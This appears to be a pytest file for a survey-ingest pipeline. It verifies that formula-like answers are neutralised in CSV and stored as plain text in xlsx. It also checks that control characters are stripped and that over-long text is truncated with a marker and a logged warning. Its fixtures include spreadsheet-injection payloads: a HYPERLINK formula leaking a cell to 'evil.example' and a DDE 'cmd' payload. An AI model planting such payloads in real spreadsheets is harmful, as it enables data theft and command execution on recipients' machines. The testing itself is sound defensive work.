"""Formulas, control characters and over-long text in fieldwork, from a real survey
export through the ingest and review-workbook stages as a user runs them.

* Text starting with ``=``, ``+``, ``-``, ``@``, tab, CR or LF is stored unchanged
  in the parquet tables, neutralised in every CSV, and stored as text (never a
  formula) in the xlsx.
* Control characters that xlsx forbids are removed from the workbook, and the
  stage log says so.
* An answer over Excel's 32,767-character limit is truncated in the workbook with
  a visible marker, and the stage log warns; the parquet keeps it whole.
"""

from __future__ import annotations

import csv
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from pipeline import paths
from pipeline.spreadsheet import EXCEL_CELL_LIMIT, FORMULA_PREFIXES

REPO = Path(__file__).resolve().parents[2]

FORMULAS = {
    "r01": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "r02": "+3 volunteers joined in the end, which is the number we needed",
    "r03": "-2 volunteers this month, which hurt the Tuesday sessions",
    "r04": "@channel the hub is closed on Friday for the staff away day",
    "r05": "=1+1 is what the spreadsheet said, and nobody trusted it after that",
    "r06": "=cmd|' /C calc'!A0 appeared in the feedback box, oddly",
}
CONTROL = "Bell\x07 and start-of-heading\x01 and escape\x1b inside one answer about the hub"
LONG = ("The partnership kept going because people turned up. " * 800)[:EXCEL_CELL_LIMIT + 5_000].strip()

CODEBOOK = {
    "name": "Hardening", "version": "1",
    "themes": [{"id": "resources", "label": "Resources", "codes": [
        {"id": "res_funding", "label": "Funding", "definition": "Money and grants."},
        {"id": "res_staff", "label": "Staff", "definition": "Staff and volunteer time."}]}],
}


def run_cli(project: Path, stage: str, log: Path | None = None) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "pipeline", stage, "--project", str(project)]
    if log:
        command += ["--log", str(log)]
    return subprocess.run(command, capture_output=True, text=True, cwd=REPO)


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("formulas") / "project"
    surveys = root / "data" / "raw" / "surveys"
    surveys.mkdir(parents=True)
    rows = [["id", "comments"], *[[key, text] for key, text in FORMULAS.items()],
            ["r07", CONTROL], ["r08", LONG]]
    with (surveys / "feedback.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    config = {"sites": {"north": "North"},
              "surveys": [{"file": "feedback.csv", "format": "generic", "id_column": "id", "wave": "1",
                           "site": "north", "sector": "voluntary", "date": "2025-06-30",
                           "text_columns": ["comments"]}]}
    (root / "config.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    (root / "codebook").mkdir()
    (root / "codebook" / "codebook.yaml").write_text(yaml.safe_dump(CODEBOOK, sort_keys=False), encoding="utf-8")
    result = run_cli(root, "ingest")
    assert result.returncode == 0, result.stderr[-3000:]
    segments = pd.read_parquet(root / paths.SEGMENTS)
    pd.DataFrame([{"segment_id": s, "code_id": code, "rank": rank, "score": score,
                   "confidence": "high", "suggested": score >= 0.5}
                  for s in segments["segment_id"]
                  for rank, (code, score) in enumerate([("res_funding", 0.8), ("res_staff", 0.3)], 1)]
                 ).to_parquet(root / paths.SUGGESTIONS, index=False)
    log = root / "logs" / "review_workbook.log"
    result = run_cli(root, "review_workbook", log)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    return root


def test_parquet_keeps_the_text_unchanged(project):
    texts = set(pd.read_parquet(project / paths.SEGMENTS)["text"])
    for text in [*FORMULAS.values(), LONG]:
        assert text in texts
    assert any("\x07" in t for t in texts)  # control characters are kept in the data, removed only in xlsx


def test_every_csv_neutralises_formula_text(project):
    csv_paths = [*(project / paths.PROCESSED).rglob("*.csv"), *(project / paths.REPORTS).rglob("*.csv")]
    assert project / paths.SEGMENTS_CSV in csv_paths
    for path in csv_paths:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for record in csv.reader(handle):
                for cell in record:
                    assert not cell.startswith(FORMULA_PREFIXES), (path.name, cell[:40])
    with (project / paths.SEGMENTS_CSV).open(encoding="utf-8-sig", newline="") as handle:
        cells = {cell for record in csv.reader(handle) for cell in record}
    for text in FORMULAS.values():
        assert "'" + text in cells


def test_review_workbook_stores_formula_text_as_text(project):
    path = project / paths.REVIEW_WORKBOOK
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula cell in {name}"
    sheet = openpyxl.load_workbook(path)["Review"]
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value in FORMULAS.values():
                found[cell.value] = cell.data_type
    assert found == {text: "s" for text in FORMULAS.values()}


def test_control_characters_removed_and_logged(project):
    sheet = openpyxl.load_workbook(project / paths.REVIEW_WORKBOOK)["Review"]
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Bell and start-of-heading and escape inside one answer about the hub" in texts
    assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in texts)
    log = (project / "logs" / "review_workbook.log").read_text(encoding="utf-8")
    assert re.search(r"WARNING .*Removed 3 control character\(s\) that xlsx cannot hold \(Review!", log)


def test_overlong_answer_truncated_with_marker_and_warning_in_the_stage_log(project):
    sheet = openpyxl.load_workbook(project / paths.REVIEW_WORKBOOK)["Review"]
    long_cells = [c.value for row in sheet.iter_rows() for c in row
                  if isinstance(c.value, str) and c.value.startswith(LONG[:200])]
    assert len(long_cells) == 1
    cell = long_cells[0]
    assert len(cell) <= EXCEL_CELL_LIMIT
    assert cell.endswith(f"[truncated: {len(LONG)} characters in full, see the CSV or parquet table]")
    log = (project / "logs" / "review_workbook.log").read_text(encoding="utf-8")
    assert re.search(rf"WARNING .*Text of {len(LONG)} characters exceeds Excel's cell limit", log)
    # The full answer is still in the tables.
    segments = pd.read_parquet(project / paths.SEGMENTS)
    assert LONG in set(segments["text"])
